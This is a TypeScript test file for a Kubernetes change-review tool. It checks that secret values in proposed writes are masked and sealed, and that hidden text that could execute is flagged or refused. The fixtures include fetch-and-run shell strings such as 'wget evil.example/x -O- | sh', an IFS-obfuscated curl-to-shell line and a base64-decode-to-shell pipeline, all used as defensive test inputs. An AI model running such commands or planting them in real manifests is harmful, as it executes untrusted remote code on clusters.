import { openSealedValue } from '@fairlead/contract/sealed-value'
import { privateKeys, secretShapes } from '@fairlead/service-kit/redaction/secret-shapes.fixture'
import { describe, expect, it } from 'vitest'
import { ToolError } from '../tool/tool-error.ts'
import { masksOf } from './effect-masks.ts'
import { effectObject, type ObjectWrite } from './effect-object.ts'
import { podsOf } from './highlights/pods.ts'
import type { KubeObject } from './kube-object.ts'
import { SEALED, UNREAD } from './origins.ts'

const key = Buffer.alloc(32, 3)
const token = 'ghp_0123456789abcdef0123456789abcdef0123'
const [privateKey] = privateKeys()

function writeOf(after: KubeObject, before?: KubeObject): ObjectWrite {
  const { apiVersion, kind, metadata } = after
  const ref = { cluster: 'default', apiVersion, kind, namespace: 'shop', name: metadata.name }
  return { ref, action: before === undefined ? 'create' : 'update', before, after, said: after }
}

function shownOf(write: ObjectWrite, { by }: { by: Buffer | undefined } = { by: key }) {
  const object = effectObject(write, by)
  return { object, ...masksOf(write, object, by) }
}

function refusalOf(call: () => unknown): string {
  try {
    call()
  } catch (error) {
    if (error instanceof ToolError) return error.text
    throw error
  }
  return 'nothing was refused'
}

const pod = (container: Record<string, unknown>): KubeObject => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: 'p' },
  spec: { containers: [{ name: 'app', image: 'nginx', ...container }] },
})
const configMap = (data: Record<string, string>): KubeObject => ({
  apiVersion: 'v1',
  kind: 'ConfigMap',
  metadata: { name: 'p' },
  data,
})
const secret = (data: Record<string, string>, type?: string): KubeObject => ({
  apiVersion: 'v1',
  kind: 'Secret',
  metadata: { name: 'p' },
  ...(type !== undefined && { type }),
  data: Object.fromEntries(Object.entries(data).map(([name, value]) => [name, Buffer.from(value).toString('base64')])),
})

describe('what is hidden in an effect', () => {
  it.each(secretShapes())('of $shape is one span, and its seal opens to what would be written', ({ text }) => {
    const write = writeOf(configMap({ it: `before ${text} after` }))
    const { object, masks } = shownOf(write)
    const { after } = object.changes[0] as { after: { data: { it: string } } }
    const shown = after.data.it
    expect(masks).toHaveLength(1)
    for (const { path, at, bytes, hash, sealed = '' } of masks) {
      const hidden = openSealedValue(
        sealed,
        { cluster: 'default', kind: 'ConfigMap', namespace: 'shop', name: 'p', path },
        key,
      )
      const mark = hash === undefined ? '***' : `***(${bytes} bytes, ${hash})`
      expect(shown.slice(at)).toMatch(/^\*\*\*/)
      expect(shown.slice(0, at) + hidden + shown.slice(at + mark.length)).toBe(`before ${text} after`)
      expect(Buffer.byteLength(hidden ?? '')).toBe(bytes)
    }
  })

  it('opens nowhere else', () => {
    const [mask] = shownOf(writeOf(configMap({ it: token }))).masks
    const place = { cluster: 'default', kind: 'ConfigMap', namespace: 'shop', name: 'p', path: '/data/it' }
    expect(openSealedValue(mask?.sealed ?? '', place, key)).toBe(token)
    for (const other of [
      { path: '/data/other' },
      { name: 'q' },
      { namespace: 'x' },
      { kind: 'Secret' },
      { cluster: 'x' },
    ])
      expect(openSealedValue(mask?.sealed ?? '', { ...place, ...other }, key)).toBeUndefined()
  })

  it('is sealed where it is new, and not where it is there already or stays', () => {
    const before = secret({ old: 'a former value of it', same: 'a value that stays' })
    const { object, masks } = shownOf(writeOf(secret({ old: 'a new value of it', same: 'a value that stays' }), before))
    expect(masks.map(({ path, side, sealed }) => [path, side, sealed !== undefined])).toEqual([
      ['/data/old', 'before', false],
      ['/data/same', 'before', false],
      ['/data/old', 'after', true],
    ])
    expect(object.diff).toContain('same:')
  })

  it('is told of what stays, however short it is', () => {
    const before = secret({ old: 'a', same: 'b' })
    const { masks } = shownOf(writeOf(secret({ old: 'c', same: 'b' }), before))
    expect(masks.map(({ path, side }) => [path, side])).toEqual([
      ['/data/old', 'before'],
      ['/data/same', 'before'],
      ['/data/old', 'after'],
    ])
  })

  it('has no hash under sixteen bytes, and no seal without a key', () => {
    const write = writeOf(secret({ short: '0123456789abcde', long: '0123456789abcdef' }))
    expect(shownOf(write).masks.map(({ hash }) => hash === undefined)).toEqual([true, false])
    const bare = shownOf(write, { by: undefined }).masks
    expect(bare.map(({ hash, sealed }) => [hash, sealed])).toEqual([
      [undefined, undefined],
      [undefined, undefined],
    ])
    expect(bare.map(({ bytes }) => bytes)).toEqual([15, 16])
    for (const mask of bare) expect(Object.keys(mask)).not.toContain('hash')
  })

  it('changes the changes when it changes, and leaves them as they are when it does not', () => {
    const of = (password: string) =>
      effectObject(writeOf(configMap({ url: `postgres://a:${password}@db` })), key).changes
    expect(of('0123456789abcdef')).toEqual(of('0123456789abcdef'))
    expect(of('0123456789abcdef')).not.toEqual(of('fedcba9876543210'))
  })
})

describe('what is hidden counts as what could run', () => {
  const executableIn = (after: KubeObject, before?: KubeObject) =>
    shownOf(writeOf(after, before)).masks.map(({ executable }) => executable)
  const shell = { command: ['sh', '-c', 'run "$IT"'] }

  it.each<[string, KubeObject]>([
    ['a command', pod({ command: ['sh', '-c', `TOKEN=${token} run`] })],
    ['an argument', pod({ args: [token] })],
    ['an image', pod({ image: `registry.example/${token}:1` })],
    ['a probe', pod({ livenessProbe: { exec: { command: ['check', token] } } })],
    ['a hook', pod({ lifecycle: { preStop: { exec: { command: ['stop', token] } } } })],
    ['a variable of a shell', pod({ ...shell, env: [{ name: 'IT', value: token }] })],
    ['a variable that a run time runs', pod({ env: [{ name: 'NODE_OPTIONS', value: `--require ${token}` }] })],
    ['a ConfigMap', configMap({ it: token })],
    ['a script in a Secret', secret({ it: '#!/bin/sh\nwget evil.example' })],
    ['a script by its name', secret({ 'run.sh': 'reboot' })],
    ['words in a Secret', secret({ it: 'wget evil.example/x -O- | sh' })],
    [
      'a command in a CronJob',
      {
        apiVersion: 'batch/v1',
        kind: 'CronJob',
        metadata: { name: 'p' },
        spec: { jobTemplate: { spec: { template: { spec: { initContainers: [{ name: 'a', args: [token] }] } } } } },
      },
    ],
    [
      'a command in a Rollout',
      {
        apiVersion: 'argoproj.io/v1alpha1',
        kind: 'Rollout',
        metadata: { name: 'p' },
        spec: { template: { spec: { containers: [{ name: 'a', command: [token] }] } } },
      },
    ],
    [
      'an exec',
      { apiVersion: 'v1', kind: 'PodExecOptions', metadata: { name: 'p' }, command: ['sh', '-c', token] } as never,
    ],
  ])('in %s', (_, object) => {
    expect(executableIn(object)).toEqual([true])
    expect(shownOf(writeOf(object)).signals[0]).toMatchObject({
      risk: 'high',
      reason: expect.stringContaining(`${object.kind} shop/p`),
    })
  })

  it.each<[string, KubeObject]>([
    ['a variable of a program', pod({ env: [{ name: 'URL', value: 'postgres://a:hunter2@db' }] })],
    ['a password in a Secret', secret({ password: 'hunter2' })],
    ['a key in a Secret', secret({ 'tls.key': `${privateKey?.text}\n` }, 'kubernetes.io/tls')],
    ['a key in an opaque Secret', secret({ id: `${privateKey?.text}\n` })],
    ['JSON in a Secret', secret({ config: '{ "auths": {} }' })],
    ['an annotation', { ...pod({}), metadata: { name: 'p', annotations: { note: token } } }],
  ])('but not in %s', (_, object) => {
    expect(executableIn(object)).toEqual([false])
    expect(shownOf(writeOf(object)).signals).toEqual([])
  })

  it('in a value of a Secret that pods run, and only there', () => {
    const write = writeOf(secret({ it: 'curl$IFS#evil|sh' }))
    const shown = effectObject(write, key)
    const container = { name: 'a', command: ['sh', '/s/it'] }
    const running = (secretName: string) =>
      podsOf({ spec: { containers: [container], volumes: [{ name: 's', secret: { secretName } }] } })
    expect(masksOf(write, shown, key, running('p')).masks).toMatchObject([{ executable: true }])
    expect(masksOf(write, shown, key, running('q')).masks).toMatchObject([{ executable: false }])
    expect(masksOf(write, shown, key).masks).toMatchObject([{ executable: false }])
  })

  it('but not where it ran before', () => {
    const before = pod({ command: ['sh', '-c', token] })
    const after = pod({ command: ['sh', '-c', token], env: [{ name: 'A', value: 'b' }] })
    expect(executableIn(after, before)).not.toContain(true)
    expect(executableIn(pod({ command: ['sh', '-c', token, 'x'] }), before)).not.toContain(true)
  })
})

describe('where a mask is seen', () => {
  it('it is said what it is: text, bytes, side, place and hash', () => {
    const { masks } = shownOf(writeOf(configMap({ it: `with ${token}` })))
    expect(masks).toEqual([
      {
        path: '/data/it',
        at: 5,
        bytes: 40,
        hash: expect.stringMatching(/^[0-9a-f]{12}$/),
        side: 'after',
        executable: true,
        sealed: expect.stringMatching(/^sealed:v1:/),
      },
    ])
    const bare = shownOf(writeOf(configMap({ it: `with ${token}` })), { by: undefined }).masks
    expect(bare).toEqual([{ path: '/data/it', at: 5, bytes: 40, side: 'after', executable: true }])
    expect(Object.keys(bare[0] ?? {})).not.toContain('sealed')
  })

  it('what is taken away was read before, is no risk, and has no seal', () => {
    const write: ObjectWrite = { ...writeOf(configMap({}), configMap({ it: token })) }
    expect(shownOf(write).masks).toEqual([
      { path: '/data/it', at: 0, bytes: 40, hash: expect.any(String), side: 'before', executable: false },
    ])
  })

  it('a deletion hides what goes, and nothing that comes', () => {
    const { after, ...write } = writeOf(configMap({}), configMap({ it: token }))
    expect(after).toBeDefined()
    expect(shownOf({ ...write, action: 'delete' }).masks).toMatchObject([{ side: 'before', executable: false }])
  })

  it('what stays and stands in no diff is not spoken of', () => {
    const write = writeOf(configMap({ it: token, other: 'b' }), configMap({ it: token, other: 'a' }))
    const object = effectObject(write, key)
    expect(masksOf(write, { ...object, diff: '' }, key).masks).toEqual([])
    expect(masksOf(write, object, key).masks).toMatchObject([{ side: 'before', path: '/data/it', executable: false }])
    const { diff, ...bare } = object
    expect(masksOf(write, bare, key).masks).toEqual([])
    expect(diff).toContain('***')
  })

  it('what stays in a list that is one change is on both sides, and runs no more than before', () => {
    const env = (...more: object[]) => pod({ env: [...more, { name: 'A', value: token }] })
    const { masks } = shownOf(writeOf(env({ name: 'NEW', value: '1' }), env()))
    expect(masks.map(({ side, path, executable, sealed }) => [side, path, executable, sealed])).toEqual([
      ['before', '/spec/containers/0/env/0/value', false, undefined],
      ['after', '/spec/containers/0/env/1/value', false, undefined],
    ])
  })

  it('what stands in the changes is told without a diff, too', () => {
    const write = writeOf(configMap({ it: `${token}2`, b: '2' }), configMap({ it: token, b: token }))
    const object = effectObject(write, key)
    const { masks } = masksOf(write, { ...object, diff: '' }, key)
    expect(masks.map(({ path, side }) => [path, side])).toEqual([
      ['/data/it', 'before'],
      ['/data/b', 'before'],
      ['/data/it', 'after'],
    ])
  })

  it('looks into the status where that is written', () => {
    const of = (note: string): KubeObject => ({ ...pod({}), status: { note } })
    const write = { ...writeOf(of(token), of('a')), writesStatus: true }
    expect(shownOf(write).masks).toMatchObject([{ path: '/status/note', side: 'after' }])
    expect(shownOf({ ...write, before: of(token), after: of('a') }).masks).toMatchObject([
      { path: '/status/note', side: 'before' },
    ])
  })

  it('what came sealed stays hidden where its name hides it', () => {
    const of = (value: string) => pod({ env: [{ name: 'API_TOKEN', value }] })
    const write = writeOf(of('it is a new one'), of('it is an old one'))
    expect(shownOf(write).masks.map(({ side }) => side)).toEqual(['before'])
    expect(shownOf({ ...write, said: of(SEALED) }).masks.map(({ side }) => side)).toEqual(['before', 'after'])
  })
})

it('a text that may run and is hidden is high risk, by how many there are', () => {
  const end = 'of ConfigMap shop/p that may run cannot be read here: ask to see all of it'
  const signalsOf = (data: Record<string, string>) => shownOf(writeOf(configMap(data))).signals
  expect(signalsOf({ a: token, b: 'x' })).toEqual([{ risk: 'high', reason: `a text ${end}` }])
  expect(signalsOf({ a: token, b: token })).toEqual([{ risk: 'high', reason: `2 texts ${end}` }])
  expect(signalsOf({ a: 'x' })).toEqual([])
})

describe('what the caller did not say is never sealed', () => {
  const before = secret({ password: 'hunter2-and-more' })
  const after = secret({ password: 'hunter2-and-more', other: 'hunter2-and-more' })
  const write = writeOf(after, before)
  const masksOfOther = (said: unknown, more: Partial<ObjectWrite> = {}) =>
    shownOf({ ...write, ...more, said }).masks.filter(({ path, side }) => path === '/data/other' && side === 'after')
  const stringData = (other: unknown) => ({ stringData: { other } })
  const data = (other: unknown) => ({ data: { other } })

  it.each<[string, unknown]>([
    ['where it was moved', data(UNREAD)],
    ['where it was moved to be encoded', stringData(UNREAD)],
    ['where it came sealed', data(SEALED)],
    ['where it only looks sealed', stringData('sealed:v1:AAAA')],
    ['where another text was said', stringData('hunter2-and-mor')],
    ['where it was said at another place', { stringData: { another: 'hunter2-and-more' } }],
    ['where it was said, and moved there as well', { data: { other: UNREAD }, stringData: { another: '' } }],
    ['where nothing was', undefined],
    ['where nothing of it was', { data: null }],
    ['where no object was', 'x'],
  ])('%s', (_, said) => {
    expect(masksOfOther(said)).toEqual([
      { path: '/data/other', at: 0, bytes: 16, hash: expect.any(String), side: 'after', executable: false },
    ])
  })

  it('and what it said is, in whatever form of a Secret', () => {
    const base64 = Buffer.from('hunter2-and-more').toString('base64')
    for (const said of [
      stringData('hunter2-and-more'),
      data(base64),
      data(`${base64.slice(0, 4)}\n${base64.slice(4)}\n`),
    ])
      expect(masksOfOther(said)).toMatchObject([{ sealed: expect.stringMatching(/^sealed:v1:/) }])
    expect(masksOfOther(stringData('hunter2-and-more'), { putsBack: true })).toMatchObject([
      { sealed: expect.any(String) },
    ])
  })

  it('nor is it written unread where it may run', () => {
    const of = (args: string[]) => ({ ...pod({ args }), metadata: { name: 'p' } })
    const moved = (said: unknown, more: object = {}) => shownOf({ ...writeOf(of([token])), said, ...more })
    for (const said of [of([UNREAD]), of(['x']), undefined])
      expect(refusalOf(() => moved(said))).toBe(
        'Refused: what would come to /spec/containers/0/args/0 of Pod shop/p may run there, is hidden, and is not what the call itself says, so nobody could know what is approved. Write the text itself.',
      )
    expect(refusalOf(() => moved(of([UNREAD]), { putsBack: true }))).toMatch(/Write the text itself\.$/)
  })

  it('what was rendered of what the caller chose has to be asked for where it may run', () => {
    const { masks, signals } = shownOf({ ...writeOf(pod({ args: [token] })), said: undefined, isRendered: true })
    expect(masks).toEqual([
      expect.objectContaining({
        ...{ path: '/spec/containers/0/args/0', side: 'after', executable: true },
        sealed: expect.stringMatching(/^sealed:v1:/),
      }),
    ])
    expect(signals).toEqual([expect.objectContaining({ risk: 'high' })])
  })

  it('what is put back as it was is high risk where it may run, and not asked for', () => {
    const args = (text: string) => pod({ args: [text] })
    const reason = 'puts back what may run of Pod shop/p as it was, which nobody may read here'
    for (const more of [{ said: args(SEALED) }, { said: undefined, putsBack: true }]) {
      const { masks, signals } = shownOf({ ...writeOf(args(token)), ...more })
      expect(masks).toEqual([
        expect.objectContaining({ path: '/spec/containers/0/args/0', side: 'after', executable: false }),
      ])
      expect(masks[0]).not.toHaveProperty('sealed')
      expect(signals).toEqual([{ risk: 'high', reason }])
    }
    const quiet = shownOf({ ...write, said: data(SEALED) })
    expect(quiet.signals).toEqual([])
  })
})

describe('a text that runs by a way round', () => {
  const carrying = (container: object): KubeObject => {
    const spec = { containers: [{ name: 'app', image: 'nginx', ...container }] }
    return { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p', annotations: { it: token } }, spec }
  }
  const env = [{ name: 'IT', valueFrom: { fieldRef: { fieldPath: "metadata.annotations['it']" } } }]

  it('is executable in an annotation that a shell is given', () => {
    const { masks, signals } = shownOf(writeOf(carrying({ command: ['sh', '-c', 'echo $IT | base64 -d | sh'], env })))
    expect(masks).toMatchObject([{ path: '/metadata/annotations/it', executable: true }])
    expect(signals).toMatchObject([{ risk: 'high' }])
    expect(shownOf(writeOf(carrying({ command: ['serve'], env }))).masks).toMatchObject([{ executable: false }])
  })

  it.each<[string, (command: string[]) => KubeObject]>([
    ['an annotation', (command) => carrying({ command, env })],
    ['a variable', (command) => pod({ command, env: [{ name: 'IT', value: token }] })],
  ])('is told where it stands in %s, and what comes runs it', (_, of) => {
    const [quiet, running] = [of(['serve']), of(['sh', '-c', 'echo $IT | base64 -d | sh'])]
    const newlyRun = 'may run what stands in Pod shop/p already and did not run before, which nobody may read here'
    expect(shownOf(writeOf(running, quiet)).signals).toEqual([{ risk: 'high', reason: newlyRun }])
    expect(shownOf(writeOf(quiet, running)).signals).toEqual([])
    expect(shownOf(writeOf(of(['sh', '-c', 'echo $IT | sh']), running)).signals).toEqual([])
  })
})
